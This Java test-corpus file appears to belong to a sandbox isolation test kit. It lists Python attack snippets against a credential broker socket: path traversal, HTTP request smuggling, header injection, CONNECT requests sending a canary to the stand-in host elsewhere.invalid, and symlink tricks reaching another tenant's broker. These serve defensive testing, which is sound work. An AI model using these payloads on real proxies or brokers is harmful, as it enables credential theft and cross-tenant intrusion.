package dev.cloister.isolation.tck.corpus;

import static dev.cloister.isolation.tck.Language.PYTHON;
import static dev.cloister.isolation.tck.Sign.WORD_RECEIVED;
import static dev.cloister.spi.Guarantee.CREDENTIAL_NEVER_INSIDE;
import static dev.cloister.spi.Guarantee.FILES_OF_OTHERS_UNWRITABLE;

import dev.cloister.isolation.tck.Attack;
import dev.cloister.isolation.tck.Family;
import java.util.List;

/** What the broker's socket lets through to the upstream, where the real credential is added. */
final class Brokers {
    private static final String MODEL_CALL = """
            import json, os, socket
            word = os.environ["WORD"]
            def model_call(**more):
                return json.dumps(dict({"model": "claude-sonnet-5", "max_tokens": 16, "messages": [{"role": "user", "content": "hello"}]}, **more)).encode()
            def say(data, path=None):
                connection = socket.socket(socket.AF_UNIX)
                connection.settimeout(10)
                try:
                    connection.connect(path or os.environ["BROKER"])
                    connection.sendall(data)
                    connection.shutdown(socket.SHUT_WR)
                    while connection.recv(65536): pass
                except OSError as error:
                    print(error)
                connection.close()
            def request(body, line="POST /v1/messages HTTP/1.1", host="broker.internal", *headers):
                lines = [line, "Host: " + host, "Content-Type: application/json", "Content-Length: %d" % len(body), *headers]
                return ("\\r\\n".join(lines) + "\\r\\n\\r\\n").encode("latin-1") + body
            """;

    private Brokers() {}

    private static String saying(String text) {
        return MODEL_CALL + text;
    }

    static List<Attack> attacks() {
        return new Attacks(Family.BROKER)
                .add("broker-other-path", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(note=word), "POST /v1/files HTTP/1.1"))
                        say(request(model_call(note=word), "POST /v1/messages/batches HTTP/1.1"))
                        """))
                .add("broker-other-method", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        for method in ("GET", "PUT", "DELETE", "PATCH"): say(request(model_call(note=word), method + " /v1/messages HTTP/1.1"))
                        """))
                .add("broker-dot-path", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        for path in ("/v1/messages/../files", "/v1/messages/%2e%2e/files", "/v1/messages;/../files", "//v1/files", "/v1/messages%00/files"):
                            say(request(model_call(note=word), "POST " + path + " HTTP/1.1"))
                        """))
                .add("broker-query", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(), "POST /v1/organizations/api_keys?name=" + word + " HTTP/1.1"))
                        """))
                .add("broker-absolute-target", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(note=word), "POST http://elsewhere.invalid/v1/files HTTP/1.1", "elsewhere.invalid"))
                        say(("CONNECT elsewhere.invalid:443 HTTP/1.1\\r\\nHost: elsewhere.invalid\\r\\n\\r\\n" + word).encode())
                        """))
                .add("broker-nul-host", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(note=word), "POST /v1/messages HTTP/1.1", "elsewhere.invalid\\0.broker.internal"))
                        say(("CONNECT elsewhere.invalid\\0.broker.internal:443 HTTP/1.1\\r\\nHost: broker.internal\\r\\n\\r\\n" + word).encode())
                        """))
                .add("broker-other-model", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(model="claude-" + word)))
                        """))
                .add("broker-two-models", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call()[:-1] + (', "model": "claude-%s"}' % word).encode()))
                        """))
                .add("broker-own-credential", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(), "POST /v1/messages HTTP/1.1", "broker.internal", "x-api-key: " + word, "authorization: Bearer " + word, "proxy-authorization: " + word))
                        """))
                .add("broker-odd-header", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(), "POST /v1/messages HTTP/1.1", "broker.internal", "x-forwarded-host: " + word, "cookie: " + word, "anthropic-organization-id: " + word))
                        """))
                .add("broker-header-folding", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(), "POST /v1/messages HTTP/1.1", "broker.internal", "anthropic-version: 2023-06-01\\r\\n x-api-key: " + word))
                        say(request(model_call(), "POST /v1/messages HTTP/1.1", "broker.internal", "anthropic-beta: a\\nx-api-key: " + word))
                        """))
                .add("broker-smuggled-request", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        inner = request(model_call(note=word), "POST /v1/files HTTP/1.1")
                        for headers in (["Transfer-Encoding: chunked"], ["Transfer-Encoding : chunked"], ["Transfer-Encoding: identity, chunked"], ["Content-Length: 0"]):
                            say(request(b"0\\r\\n\\r\\n" + inner, "POST /v1/messages HTTP/1.1", "broker.internal", *headers))
                        """))
                .add("broker-pipelined-request", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call()) + request(model_call(note=word), "POST /v1/files HTTP/1.1"))
                        """))
                .add("broker-oversized", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(note=word, padding="x" * (2 << 20))))
                        """))
                .add("broker-oversized-stream", CREDENTIAL_NEVER_INSIDE, WORD_RECEIVED, PYTHON, saying("""
                        body = model_call(note=word, padding="x" * (2 << 20))
                        chunks = b"".join(b"%x\\r\\n%s\\r\\n" % (len(body[at:at + 65536]), body[at:at + 65536]) for at in range(0, len(body), 65536))
                        say(b"POST /v1/messages HTTP/1.1\\r\\nHost: broker.internal\\r\\nContent-Type: application/json\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + chunks + b"0\\r\\n\\r\\n")
                        """))
                .add("broker-of-another", FILES_OF_OTHERS_UNWRITABLE, WORD_RECEIVED, PYTHON, saying("""
                        say(request(model_call(metadata={"user_id": word})), os.environ["V_BROKER"])
                        """))
                .add("broker-of-another-by-link", FILES_OF_OTHERS_UNWRITABLE, WORD_RECEIVED, PYTHON, saying("""
                        os.symlink(os.environ["V_BROKER"], "broker-link")
                        say(request(model_call(metadata={"user_id": word})), "broker-link")
                        os.unlink("broker-link")
                        """))
                .add("broker-of-another-by-process", FILES_OF_OTHERS_UNWRITABLE, WORD_RECEIVED, PYTHON, saying("""
                        os.symlink("/proc/%s/root%s" % (os.environ["V_PID"], os.environ["V_BROKER"]), "broker-link")
                        say(request(model_call(metadata={"user_id": word})), "broker-link")
                        os.unlink("broker-link")
                        """))
                .toList();
    }
}
